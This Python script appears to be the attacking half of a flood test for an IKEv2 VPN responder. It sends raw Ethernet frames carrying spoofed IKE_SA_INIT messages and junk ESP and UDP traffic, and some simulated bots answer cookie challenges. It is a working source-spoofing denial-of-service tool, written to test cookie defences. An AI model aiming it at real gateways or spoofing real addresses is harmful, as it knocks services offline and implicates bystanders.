"""The attacker of the flood tests, a program of its own: frames out of one interface, as fast as it is told, for as long.

    python flooder.py eth0 --mac 02:00:00:00:00:01 --target 192.0.2.2 --per-second 4000 --bots-per-second 100 --seconds 6

Most frames come from 198.18.0.0/16, where nobody hears the answers; a few from `bots` in 198.19.0.0/16, who hear them and send
their first message again with the cookie. With `--source` all of it comes in the name of that one address. What it did is one
line of JSON in the end. RFC 7296 §2.6; the networks: RFC 2544.
"""

import argparse
import json
import os
import random
import socket
import struct
import time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

SPOOFED, BOTS = 6000, 200
KEYS = 512  # public values, each used by several sources
MOST_FRAMES = 60_000
TICK_SECONDS = 0.004
ETHERNET_BYTES, IP_BYTES, UDP_BYTES = 14, 20, 8
MESSAGE = ETHERNET_BYTES + IP_BYTES + UDP_BYTES
IKE_SA_INIT, INITIATOR, RESPONSE = 34, 0x08, 0x20
SA, KEY_EXCHANGE, NONCE, NOTIFY = 33, 34, 40, 41
COOKIE = 16390


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def offer():
    """aes256gcm16-prfsha256-x25519 as the body of an SA payload."""
    key_length = struct.pack("!HH", 0x800E, 256)
    transforms = [(1, 20, key_length), (2, 5, b""), (4, 31, b"")]
    body = b"".join(
        struct.pack("!BBHBBH", 3 if number < len(transforms) else 0, 0, 8 + len(attributes), kind, 0, value) + attributes
        for number, (kind, value, attributes) in enumerate(transforms, 1))
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(body), 1, 1, 0, len(transforms)) + body


def first_message(public_value, nonce, spi, cookie=None):
    """IKE_SA_INIT: HDR, [N(COOKIE),] SA, KE, Ni."""
    payloads = payload(KEY_EXCHANGE, offer()) + payload(NONCE, struct.pack("!HH", 31, 0) + public_value) + payload(0, nonce)
    following = SA
    if cookie:
        payloads = payload(SA, struct.pack("!BBH", 0, 0, COOKIE) + cookie) + payloads
        following = NOTIFY
    return spi + bytes(8) + struct.pack("!BBBBII", following, 0x20, IKE_SA_INIT, INITIATOR, 0, 28 + len(payloads)) + payloads


def cookie_of(message):
    """The cookie in an answer to a first message, else None."""
    if len(message) < 37 or message[16] != NOTIFY or message[18] != IKE_SA_INIT or not message[19] & RESPONSE:
        return None
    length, kind = struct.unpack("!H", message[30:32])[0], struct.unpack("!H", message[34:36])[0]
    return bytes(message[36:28 + length]) if kind == COOKIE else None


def checksum(header):
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


class Flooder:
    def __init__(self, options):
        self.options = options
        self.port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        self.port.bind((options.interface, 0x0800))
        self.port.setblocking(False)
        self.port.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.ethernet = bytes.fromhex(options.mac.replace(":", "")) + self.port.getsockname()[4] + b"\x08\x00"
        self.target = socket.inet_aton(options.target)
        self.source = socket.inet_aton(options.source) if options.source else None
        self.chance = random.Random(options.seed)
        self.values = [X25519PrivateKey.generate().public_key().public_bytes_raw() for _ in range(KEYS)]
        self.done = dict.fromkeys(
            ("sent", "first_messages", "sent_bytes", "answers", "answered_bytes", "cookies_returned", "accepted"), 0)
        self.waiting = {}  # bot's address to its first message
        self.frames = [self.spoofed(number) for number in range(SPOOFED)]

    # Frames

    def packet(self, source, protocol, body):
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, IP_BYTES + len(body), 0, 0, 64, protocol, 0, source, self.target)
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        return self.ethernet + header + body

    def datagram(self, source, port, body):
        return self.packet(source, 17, struct.pack("!HHHH", port, port, UDP_BYTES + len(body), 0) + body)

    def fresh(self):
        return self.chance.choice(self.values), self.chance.randbytes(32), self.chance.randbytes(8)

    def spoofed(self, number):
        """(whether it is a first message, frame); every source has one."""
        source, roll = self.source or bytes((198, 18, number // 250, 1 + number % 250)), self.chance.random()
        noise = self.chance.randbytes(self.chance.randrange(1, 400))
        if roll < 0.6:
            cookie = self.chance.randbytes(33) if self.source and roll < 0.2 else None
            return True, bytearray(self.datagram(source, 500, first_message(*self.fresh(), cookie)))
        if roll < 0.7:
            return False, self.datagram(source, 500, noise)
        if roll < 0.8:
            return False, self.datagram(source, 4500, bytes(4) + noise)
        if roll < 0.9:
            return False, self.datagram(source, 4500, b"\xc0" + self.chance.randbytes(3) + noise)
        return False, self.packet(source, 50, self.chance.randbytes(4) + noise)

    # Sending and hearing

    def send(self, frame):
        try:
            self.port.send(frame)
        except (BlockingIOError, OSError):
            return False  # the port is full: less is sent
        self.done["sent"] += 1
        self.done["sent_bytes"] += len(frame)
        return True

    def send_spoofed(self):
        is_first, frame = self.frames[self.done["sent"] % SPOOFED]
        if is_first:
            # Never a retransmission: another SPI, and with it another exchange.
            frame[MESSAGE:MESSAGE + 8] = os.urandom(8)
        if self.send(frame) and is_first:
            self.done["first_messages"] += 1

    def send_bot(self, number):
        source, message = bytes((198, 19, 0, 1 + number % BOTS)), self.fresh()
        self.waiting[source] = message
        self.send(self.datagram(source, 500, first_message(*message)))

    def hear(self):
        while True:
            try:
                frame, origin = self.port.recvfrom(2048)
            except BlockingIOError:
                return
            if origin[2] == socket.PACKET_OUTGOING or len(frame) < MESSAGE or frame[23] != 17:
                continue
            self.done["answers"] += 1
            self.done["answered_bytes"] += len(frame)
            message = self.waiting.pop(frame[30:34], None)
            if not message:
                continue
            cookie = cookie_of(frame[MESSAGE:])
            if cookie:
                self.done["cookies_returned"] += 1
                self.waiting[frame[30:34]] = message
                self.send(self.datagram(frame[30:34], 500, first_message(*message, cookie)))
            elif frame[MESSAGE + 16] == SA:
                self.done["accepted"] += 1

    def run(self):
        start = time.monotonic()
        spoofed = bots = 0
        while (passed := time.monotonic() - start) < self.options.seconds and self.done["sent"] < MOST_FRAMES:
            while spoofed < passed * self.options.per_second:
                self.send_spoofed()
                spoofed += 1
            while bots < passed * self.options.bots_per_second:
                self.send_bot(bots)
                bots += 1
            self.hear()
            time.sleep(TICK_SECONDS)
        self.done["seconds"] = time.monotonic() - start
        time.sleep(0.3)
        self.hear()
        return self.done


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("interface")
    parser.add_argument("--mac", required=True, help="the gateway's, or of the router on the way")
    parser.add_argument("--target", required=True)
    parser.add_argument("--source", help="the one address to speak in the name of")
    parser.add_argument("--per-second", type=int, default=4000)
    parser.add_argument("--bots-per-second", type=int, default=0)
    parser.add_argument("--seconds", type=float, default=6)
    parser.add_argument("--seed", type=int, default=1)
    flooder = Flooder(parser.parse_args())
    print("ready", flush=True)
    print(json.dumps(flooder.run()), flush=True)


if __name__ == "__main__":
    main()
